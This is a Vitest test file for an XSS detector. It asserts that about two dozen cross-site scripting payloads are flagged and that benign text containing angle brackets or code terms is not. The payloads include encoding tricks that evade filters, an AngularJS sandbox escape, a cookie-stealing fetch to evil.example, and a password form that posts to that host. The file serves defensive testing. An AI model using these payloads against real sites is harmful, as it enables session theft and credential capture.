import { describe, expect, it } from 'vitest';
import { createDetector } from '../create-detector.ts';

const detector = createDetector({ classes: { xss: true } });
const xssScore = (value: string): number =>
  detector.inspectValue(value, 'body.comment').find((finding) => finding.class === 'xss')?.score ?? 0;

describe('xss detector', () => {
  it.each([
    ['<script>alert(1)</script>', 'script element'],
    ['<ScRiPt SrC=//evil.example/x.js></sCrIpT>', 'mixed case, external script'],
    ['<img src=x onerror=alert(1)>', 'event handler'],
    ['<svg/onload=alert`1`>', 'slash as separator, tagged template'],
    ['<details open ontoggle=confirm(1)>', 'rare handler'],
    ['"><iframe src=javascript:alert(2)>', 'attribute breakout to an iframe'],
    ['<a href="jav&#x09;ascript:alert(3)">x</a>', 'entity-encoded tab in the scheme'],
    ['<a href="&#106;avascript:alert(1)">x</a>', 'entity-encoded letter in the scheme'],
    ['<a href="java\\x00script:alert(1)">x</a>', 'escaped NUL in the scheme'],
    ['javascript:fetch("//evil.example/?c="+document.cookie)', 'script URL as the whole value'],
    ['<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', 'base64 data URL'],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'meta refresh'],
    ['<base href="https://evil.example/">', 'base element'],
    ['<form action="https://evil.example/steal"><input name=p type=password>', 'form injection'],
    ['<div style="width:expression(alert(1))">', 'CSS expression'],
    ['"-alert(1)-"', 'breakout from a JS string'],
    ["';alert(String.fromCharCode(88,83,83))//", 'breakout with a statement'],
    ['</script><script>alert(1)</script>', 'closing the script context'],
    ["{{constructor.constructor('alert(1)')()}}", 'AngularJS sandbox escape'],
    ['" autofocus onfocus="alert(1)', 'handler outside a tag'],
    ['%3Cscript%3Ealert(1)%3C/script%3E', 'percent-encoded'],
    ['&lt;img src=x onerror=alert(1)&gt;', 'entity-encoded'],
    ['\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', 'JSON escapes'],
    ['＜script＞alert(1)＜/script＞', 'full-width'],
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'UTF-7'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'nested to survive a filter'],
    ['[].find(alert)', 'function passed as a value'],
  ])('flags %j (%s)', (value) => {
    expect(xssScore(value)).toBeGreaterThanOrEqual(50);
  });

  it.each([
    'a < b and c > d',
    "alert('hi') in JS shows a popup",
    'document.cookie explained',
    '<template> in Vue',
    'I <3 this',
    'Love it <3 <3 <3',
    '2 < 3 but this is < expectations',
    '<b>bold</b> and <i>italic</i>',
    '<p>Hello, world!</p>',
    'Use the <br> tag sparingly in e-mails.',
    "Rust's Option<T> is like Maybe in Haskell.",
    'The script tag is <script> in HTML, put it in the head',
    '**Important:** see [docs](https://example.com/docs)',
    'Javascript is disabled in your browser.',
    'JavaScript: The Good Parts',
    'The onload time of the page was 2.3 s',
    'Please alert me when the price drops.',
    'confirm(ation) email sent',
    "In Python, print('hello') prints text to the console.",
    'Use {{ user.name }} in the Jinja template.',
    "<note><to>Tove</to><body>Don't forget me this weekend!</body></note>",
    '<?xml version="1.0"?><catalog><book id="bk101"><title>XML</title></book></catalog>',
    'My CSS: .btn { color: #fff; background: #0a84ff; }',
    'this -> that',
  ])('does not flag %j', (value) => {
    expect(xssScore(value)).toBeLessThan(50);
  });
});
